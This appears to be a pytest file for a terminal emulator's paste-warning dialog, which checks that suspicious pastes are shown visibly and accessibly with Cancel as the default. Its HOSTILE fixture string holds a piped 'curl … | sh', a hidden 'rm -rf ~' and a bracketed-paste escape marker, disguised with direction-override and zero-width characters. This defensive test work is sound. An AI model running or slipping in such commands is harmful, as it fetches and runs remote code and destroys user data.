"""The question before a paste, as a person and a screen reader meet it."""

from collections.abc import Callable

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QColor
from PySide6.QtWidgets import QApplication, QDialogButtonBox, QLabel, QWidget
from pytestqt.qtbot import QtBot

from kortty.paint.contrast import contrast
from kortty.paint.schemes import DARK, LIGHT, Scheme
from kortty.ui.paste_dialog import PasteDialog, Question
from kortty.vt.paste_concerns import PasteWarning, paste_concerns, paste_reasons
from tests.helpers.pastes import click_key
from tests.helpers.views import WAIT_MS

MARKER = "\x1b[201~"
HOSTILE = f"curl example.org\u202e | sh\n\x1b[8mrm -rf ~\x1b[0m{MARKER}\n\u200b␛<U+202E>"
LARGE = 5 * 1024

Ask = Callable[..., PasteDialog]


@pytest.fixture
def ask(qtbot: QtBot) -> Ask:
    parents: list[QWidget] = []

    def asking(
        text: str = HOSTILE, name: str = "bash", *, bracketed: bool = False, scheme: Scheme = DARK
    ) -> PasteDialog:
        parent = QWidget()
        parents.append(parent)
        qtbot.addWidget(parent)
        parent.show()
        concerns = paste_concerns(text, bracketed)
        reasons = paste_reasons(concerns, PasteWarning.ALWAYS, LARGE)
        dialog = PasteDialog(parent, Question(text, name, concerns, reasons, LARGE), scheme, ("monospace",))
        dialog.open()
        dialog.activateWindow()
        qtbot.waitUntil(dialog.isActiveWindow, timeout=WAIT_MS)
        return dialog

    return asking


def _sentences(dialog: PasteDialog) -> list[str]:
    return [label.text() for label in dialog.findChildren(QLabel)]


@pytest.mark.promise("FT-2.4-04")
def test_it_names_pane_lines_size_reasons_and_bracketing(ask: Ask) -> None:
    shown = "\n".join(_sentences(ask()))
    for part in (
        "This pastes 3 lines into bash.",
        "pass for typed text",
        f"3 lines, {len(HOSTILE.encode()) - len(MARKER)} bytes",
        "not bracketed",
        "marks of a paste inside the text",
        "control characters: ␛ ESC (U+001B)",
        "direction characters: <U+202E>",
        "2 line breaks",
        "<U+200B>",
    ):
        assert part in shown, part


@pytest.mark.promise("FT-2.4-04")
def test_it_draws_what_cannot_be_seen(ask: Ask) -> None:
    assert ask().text.toPlainText() == (
        "curl example.org<U+202E> | sh␍\n␛[8mrm -rf ~␛[0m␛[201~␍\n<U+200B>␛<U+202E>"
    )


def test_what_is_drawn_differs_from_text_that_looks_like_it(ask: Ask) -> None:
    dialog = ask("\x1b␛")
    cursor = dialog.text.textCursor()
    backgrounds = []
    for position in (1, 2):
        cursor.setPosition(position)
        backgrounds.append(cursor.charFormat().background().color().name())
    assert backgrounds[0] != backgrounds[1]


@pytest.mark.promise("FT-2.4-04")
def test_cancel_is_the_default_and_has_the_focus(ask: Ask) -> None:
    dialog = ask()
    assert dialog.cancel.isDefault()
    assert not dialog.paste.isDefault()
    assert dialog.focusWidget() is dialog.cancel
    assert dialog.buttons.standardButton(dialog.cancel) == QDialogButtonBox.StandardButton.Cancel


def test_every_control_is_reached_by_tab_and_has_a_name(ask: Ask) -> None:
    dialog = ask()
    reached = set()
    for _ in range(6):
        focused = dialog.focusWidget()
        reached.add(focused)
        click_key(focused, Qt.Key.Key_Tab)
    assert reached == {dialog.text, dialog.cancel, dialog.paste}
    assert dialog.text.accessibleName() == "Text to paste"
    assert dialog.paste.text() == "Paste"
    assert dialog.accessibleName().startswith("This pastes")
    assert dialog.accessibleDescription()


def test_enter_presses_the_button_that_was_gone_to(ask: Ask) -> None:
    dialog = ask()
    results: list[int] = []
    dialog.finished.connect(results.append)
    dialog.paste.setFocus()
    click_key(dialog.paste, Qt.Key.Key_Return)
    assert results == [1]


def test_enter_in_the_text_is_no_yes(ask: Ask) -> None:
    dialog = ask()
    results: list[int] = []
    dialog.finished.connect(results.append)
    dialog.text.setFocus()
    assert dialog.cancel.isDefault()
    click_key(dialog.text, Qt.Key.Key_Return)
    assert results in ([], [0])


def test_the_text_can_be_read_and_not_changed(ask: Ask) -> None:
    dialog = ask("one\ntwo")
    assert dialog.text.isReadOnly()
    before = dialog.text.toPlainText()
    click_key(dialog.text, Qt.Key.Key_X, "x")
    click_key(dialog.text, Qt.Key.Key_Delete)
    assert dialog.text.toPlainText() == before


def test_a_long_text_says_what_is_not_shown(ask: Ask) -> None:
    dialog = ask("h" * 50_000 + "the end")
    shown = dialog.text.toPlainText()
    assert len(shown) < 20_000
    assert "characters are not shown here" in shown
    assert shown.endswith("the end")


def test_names_and_text_cannot_be_read_as_markup(ask: Ask) -> None:
    dialog = ask("<b>x</b>\n", "<img src=x>")
    assert all(label.textFormat() == Qt.TextFormat.PlainText for label in dialog.findChildren(QLabel))
    assert "<b>x</b>" in dialog.text.toPlainText()


@pytest.mark.parametrize("scheme", [DARK, LIGHT])
def test_drawn_characters_can_be_read_in_both_schemes(ask: Ask, scheme: Scheme) -> None:
    dialog = ask("\x1b", scheme=scheme)
    cursor = dialog.text.textCursor()
    cursor.setPosition(1)
    background: QColor = cursor.charFormat().background().color()
    foreground: QColor = cursor.charFormat().foreground().color()
    assert contrast(background.rgb() & 0xFFFFFF, foreground.rgb() & 0xFFFFFF) >= 4.5
    assert background.rgb() & 0xFFFFFF != scheme.background


def test_it_fits_a_small_screen_and_grows_with_the_text_of_a_translation(ask: Ask) -> None:
    dialog = ask()
    hint = dialog.minimumSizeHint()
    assert hint.width() <= 500
    assert hint.height() <= 480
    assert all(label.wordWrap() for label in dialog.findChildren(QLabel) if len(label.text()) > 30)


def test_it_is_modal_to_its_window_only(ask: Ask) -> None:
    dialog = ask()
    assert dialog.windowModality() == Qt.WindowModality.WindowModal
    assert QApplication.activeModalWidget() is dialog
